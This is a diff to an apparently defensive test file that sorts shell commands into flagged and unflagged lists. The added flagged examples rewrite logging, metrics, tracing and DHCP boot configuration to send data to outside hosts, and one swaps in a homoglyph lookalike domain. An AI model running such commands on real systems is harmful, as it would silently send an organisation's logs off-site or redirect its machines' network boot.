@@ -43,6 +43,37 @@ TYPED = [
     "virsh -c 'qemu+ext:///system?command=/tmp/conn.sh' list",
     "virt-install --connect 'qemu+ext:///system?command=/opt/x' --name a --import --disk /x",
     "guestfish -c 'qemu+ext:///system?command=./relay' -d web1",
+    # a service's data destination (or its clients' boot server) written into its
+    # configuration, to an address outside the site, by tee, printf, sed or yq
+    (
+        "printf '[[outputs.influxdb_v2]]\\n  urls = [\"https://metrics.sink-cloud.io\"]\\n' |"
+        " sudo tee -a /etc/telegraf/telegraf.conf"
+    ),
+    "echo '*.* @@198.51.100.20:514' | sudo tee /etc/rsyslog.d/99-fwd.conf",
+    (
+        "sudo sed -i 's/^  hosts: .*/  hosts: [\"ingest.logpipe.dev:5044\"]/'"
+        " /etc/filebeat/filebeat.yml"
+    ),
+    "sudo sed -i 's#Host .*#Host collector.shipyard-logs.net#' /etc/fluent-bit/fluent-bit.conf",
+    (
+        "sudo yq -i '.clients[0].url = \"https://loki.grafana-hosted.net/loki/api/v1/push\"'"
+        " /etc/promtail/config.yml"
+    ),
+    (
+        "sudo yq e -i '.exporters.otlp.endpoint = \"ingest.trace-relay.io:4317\"'"
+        " /etc/otelcol/config.yaml"
+    ),
+    "echo 'next-server 203.0.113.40;' | sudo tee -a /etc/dhcp/dhcpd.conf",
+    "printf 'dhcp-boot=ipxe.efi,,pxe.bootfarm.net\\n' | sudo tee /etc/dnsmasq.d/boot.conf",
+    (
+        "printf 'apiVersion: 1\\ndatasources:\\n  - name: x\\n    url:"
+        " https://prom.metrics-cache.io\\n' | sudo tee"
+        " /etc/grafana/provisioning/datasources/x.yaml"
+    ),
+    (
+        "sudo sed -i 's#url: https://mimir.mon.corp.example#url:"
+        " https://mimir.mon.cоrp.example#' /etc/prometheus/prometheus.yml"
+    ),
     # systemd-creds' input printed back unsealed
     "systemd-creds encrypt --name=db /srv/db.pw -",
     "systemd-creds encrypt --with-key=null /srv/db.pw /tmp/db.cred",
@@ -65,6 +96,25 @@ NOT_TYPED = [
     "ldapsearch -x -b dc=ex '(uid=jo)' cn mail",
     "radosgw-admin zone list",
     "radosgw-admin zonegroup get",
+    # a destination inside the site, the same registered domain swapped in, and the
+    # settings that name no destination
+    "sudo sed -i 's#^uri = .*#uri = \"http://logs.internal:8080\"#' /etc/vector/vector.toml",
+    (
+        "printf 'remote_write:\\n  - url: http://10.20.0.5:9009/api/v1/push\\n' | sudo tee -a"
+        " /etc/prometheus/prometheus.yml"
+    ),
+    (
+        "sudo yq -i '.clients[0].url = \"http://loki.internal:3100/loki/api/v1/push\"'"
+        " /etc/promtail/config.yml"
+    ),
+    (
+        "sudo sed -i 's/Host agg-01.mon.fernhill.net/Host agg-02.mon.fernhill.net/'"
+        " /etc/fluent-bit/fluent-bit.conf"
+    ),
+    "sudo yq -i '.processors.batch.send_batch_size = 4096' /etc/otelcol-contrib/config.yaml",
+    "echo 'listener 1883 0.0.0.0' | sudo tee -a /etc/mosquitto/conf.d/listener.conf",
+    "sudo yq -i '.rule_files += [\"alerts.yml\"]' /etc/prometheus/prometheus.yml",
+    "printf 'dhcp-range=10.0.8.50,10.0.8.150,12h\\n' | sudo tee /etc/dnsmasq.d/range.conf",
     # a find for certificates, and other libvirt transports
     "find /srv/ca -name '*.crt' -exec cat {} +",
     "find /srv/app -name '*.log' -exec tail -n5 {} +",
